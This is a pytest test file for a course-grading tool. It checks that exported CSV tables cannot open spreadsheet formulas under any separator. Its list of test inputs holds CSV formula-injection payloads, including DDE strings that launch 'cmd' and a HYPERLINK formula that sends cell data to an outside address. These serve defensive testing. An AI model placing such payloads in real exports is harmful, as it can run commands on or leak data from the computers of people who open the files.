"""Every table that the course writes, opened by spreadsheets that split it at something else than the comma: no cell
may open a formula.
"""

import csv
import io
import json
import re
import shutil
import subprocess

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from seminar import safe
from seminar.grading.run import grade
from seminar.questions.record import MIME
from tests.hostile.test_notebooks import _with

SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"
#: Full stops for the eye: what a cell must not begin with, blanks and quotation marks aside; a number of ours may.
OPENS = re.compile(rf'[\s"]*[{re.escape(SIGNS)}](?![0-9.]+$)')
#: What can do something wherever it stands: a formula, a call, a link to a program.
LOUD = re.compile(rf'[\s"]*(?:[=@＝＠﹦﹫]\S|[{re.escape(SIGNS)}][^\s(|!]*[(|!])')
SEPARATORS = [",", ";", "\t", "|", ",;\t", ";\t", ",|", ";|", "\t|", ",;\t|"]
NASTY = [
    'word;=HYPERLINK("http://example.org/"&A1)',
    "x;=1+1",
    "x; =1+1",
    'x;"=1+1',
    'x;" = 1+1',
    "x\t=1",
    "x\t+1",
    "x|=1",
    "x|@SUM(A1)",
    "x\n=1",
    "x\n;-cmd|' /C calc'!A0",
    "x;＝1+1",
    "x;＋1",
    "x;－1",
    "x;＠A",
    "x;﹦1",
    'a,"b;=1,"c;=2',
    '";=1"',
    "'';=1",
    "=1;=2;=3",
    ";;;=1",
    ";\t|=1",
    "x;\u3000=1",
    "x;\u00a0=1",
    'x;"";"=1"',
    "x;\r\n=1",
    "x\r=1",
    ",=1",
    ', "=1',
    '",=1',
    "-1;-1",
    "x;-1+cmd|' /C calc'!A0",
    "+1",
    "@a",
    '"=1"',
    "“;=1”",
    "x;==1",
    "x;'=1",
    'x;""=1',
]


def cells(text, separators):
    """Split as LibreOffice does: a quotation mark opens a quoted cell only where a cell begins; what follows its end up
    to the next separator is added as it stands.
    """
    place, row_end = 0, "\n"
    text = text.removeprefix("\ufeff")
    while place < len(text):
        cell = ""
        if text[place] == '"':
            place += 1
            while place < len(text):
                if text[place] == '"':
                    if text[place + 1 : place + 2] != '"':
                        place += 1
                        break
                    place += 1
                cell += text[place]
                place += 1
        while place < len(text) and text[place] not in separators and text[place] not in row_end:
            cell += text[place]
            place += 1
        yield cell
        place += 1


def test_the_imitation_splits_at_commas_as_the_csv_module_does():
    text = safe.row(['a"b', "c,d", "e\nf", "", 'x""', "g;h"]) + safe.row([1, None, "=1", 'p,"q"'])
    assert list(cells(text, ",")) == [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert list(cells('a;"b;c"d;e"f;g', ";")) == ["a", "b;cd", 'e"f', "g"]


def opening(text):
    return {
        (separators, cell) for separators in SEPARATORS for cell in cells(text, separators) if OPENS.match(cell)
    } | {(" ", cell) for cell in cells(text, " ,") if LOUD.match(cell)}


@pytest.mark.parametrize("text", NASTY)
@pytest.mark.parametrize("before", [(), ("a",), ("a,b",), ('a"',), (1,), ("a;b",)])
def test_no_text_opens_a_formula_wherever_it_is_split(text, before):
    line = safe.row((*before, text, "end"))
    assert not opening(line), line
    assert not opening(safe.row((text,))) and not opening(
        safe.row(before)[:-1] + "," + safe.json_field(json.dumps(text, ensure_ascii=False)) + "\n"
    )
    (read,) = [one for one in csv.reader(io.StringIO(line, newline=""))]
    assert len(read) == len(before) + 2 and safe.cell(read[-2]) == read[-2], "made harmless twice it stays the same"


def test_the_imitation_would_find_what_is_not_guarded():
    assert (
        opening('a,"word;=HYPERLINK(1)",b\n')
        and opening("a,x\t=1,b\n")
        and opening('a,"x;""=1",b\n')
        and opening("a, =SUM(1),b\n")
    )


@pytest.mark.parametrize(
    "text",
    [
        *NASTY,
        "plain words",
        "Vor- und Nachname - so",
        "a -b",
        "5 - 3 = 2",
        "ana@example.org",
        "Kim, Lee",
        "x;y",
        "2001-08-04",
        "C++ and a+b",
    ],
)
def test_what_is_made_harmless_can_be_read_back(text):
    # carriage returns become line ends, and an apostrophe that somebody wrote before a sign is taken for one of ours:
    # neither stands in an id
    if "\r" not in text and ";'=" not in text:
        assert safe.plain(safe.cell(text)) == text
    field = safe.json_field(json.dumps(text, ensure_ascii=False))
    (row,) = csv.reader(io.StringIO(field, newline=""))
    assert json.loads(row[0]) == text, "an answer as data stays what it was"


@pytest.mark.parametrize(
    "text",
    [
        "Vor- und Nachname - so",
        "a -b",
        "5 - 3 is 2",
        "ana@example.org",
        "2001-08-04",
        "C++ and a+b",
        "x;y",
        "it said, - and then",
    ],
)
def test_ordinary_texts_stay_as_they_are(text):
    assert safe.cell(text) == text


@pytest.mark.parametrize("value", [-1, -1.5, 0, 3.25, 1e6])
def test_our_own_numbers_stay_numbers(value):
    assert float(safe.field(value)) == value and "'" not in safe.row((value, "a"))


@pytest.fixture(scope="module")
def book_and_tables(tmp_path_factory, assignment, good):
    """A class whose names, texts and files are all nasty, graded; the folder of its tables and its gradebook."""
    from seminar.sample.unlucky import encoded

    folder = tmp_path_factory.mktemp("nasty")
    (folder / "class").mkdir()
    for number, text in enumerate(NASTY):
        name = re.sub(r"[/\r\n\0]", "_", text)[:60]
        notebook = _with(
            good(number),
            "q10",
            lambda _, output, text=text: output["data"][MIME].update(answer=text + " and some words more"),
        )
        notebook["metadata"]["student"] = text
        (folder / "class" / f"ex90_handin_{number}{name}.ipynb").write_bytes(encoded(notebook))
        (folder / "class" / f"{name}.ipynb").write_bytes(
            encoded(_with(good(number), "q1", lambda _, output, text=text: output["data"][MIME].update(answer=text)))
        )
        (folder / "class" / f"{name}.docx").write_bytes(b"none")
    grade(folder / "class", assignment, folder / "out", gradebook=folder / "book.sqlite")
    return folder


def test_no_table_of_a_nasty_class_opens_a_formula(book_and_tables):
    tables = sorted((book_and_tables / "out").glob("*.csv"))
    assert [path.name for path in tables] == ["answers.csv", "grades.csv", "problems.csv"]
    for path in tables:
        assert not opening(path.read_text("utf-8")), path.name
    rows = list(
        csv.DictReader(io.StringIO((book_and_tables / "out" / "answers.csv").read_text("utf-8-sig"), newline=""))
    )
    given = {
        json.loads(row["answer_json"]) for row in rows if row["question"] == "ex90.q10" and row["status"] == "to mark"
    }
    assert {text + " and some words more" for text in NASTY if "\r" not in text} <= given


def test_exports_open_no_formula(book_and_tables, assignment, tmp_path):
    from seminar.export import export

    for to in ("csv", "canvas", "moodle"):
        out = tmp_path / f"{to}.csv"
        export(to, [assignment], out, gradebook=book_and_tables / "book.sqlite", so_far=True)
        assert not opening(out.read_text("utf-8")), to


def test_the_tables_of_agreement_open_no_formula(book_and_tables):
    import pandas as pd

    from seminar.cli.agree import _guarded

    frame = pd.DataFrame({"unit": NASTY, "share": -0.5})
    written = _guarded(frame).to_csv(index=False, lineterminator="\n")
    assert not opening(written) and written.count("-0.5") == len(NASTY)


@pytest.mark.skipif(
    shutil.which("soffice") is None, reason="LibreOffice is not installed here; the splitting is imitated above"
)
@pytest.mark.parametrize("codes", ["44", "59", "9", "124", "44/59/9", "32"])
def test_libreoffice_finds_no_formula(codes, book_and_tables, tmp_path):
    for path in sorted((book_and_tables / "out").glob("*.csv")):
        subprocess.run(
            [
                "soffice",
                "--headless",
                f"-env:UserInstallation=file://{tmp_path}/profile",
                f"--infilter=CSV:{codes},34,76,1,,,,,,,,,true",
                "--convert-to",
                "fods",
                "--outdir",
                str(tmp_path),
                str(path),
            ],
            check=True,
            capture_output=True,
        )
        assert "table:formula=" not in (tmp_path / f"{path.stem}.fods").read_text("utf-8"), path.name


@settings(max_examples=400)
@given(texts=st.lists(st.text(alphabet=";|\t\n ,\"'=+-@＝ab(!\u00a0\u3000\r\\", max_size=14), min_size=1, max_size=3))
def test_no_text_at_all_opens_a_formula_and_data_stay_data(texts):
    assert not opening(safe.row(texts)), texts
    for text in texts:
        field = safe.json_field(json.dumps(text, ensure_ascii=False))
        assert not opening(f"a,{field},1\n")
        assert json.loads(next(csv.reader(io.StringIO(field, newline="")))[0]) == text
        assert safe.cell(safe.cell(text)) == safe.cell(text) and safe.cell(safe.plain(safe.cell(text))) == safe.cell(
            text
        )
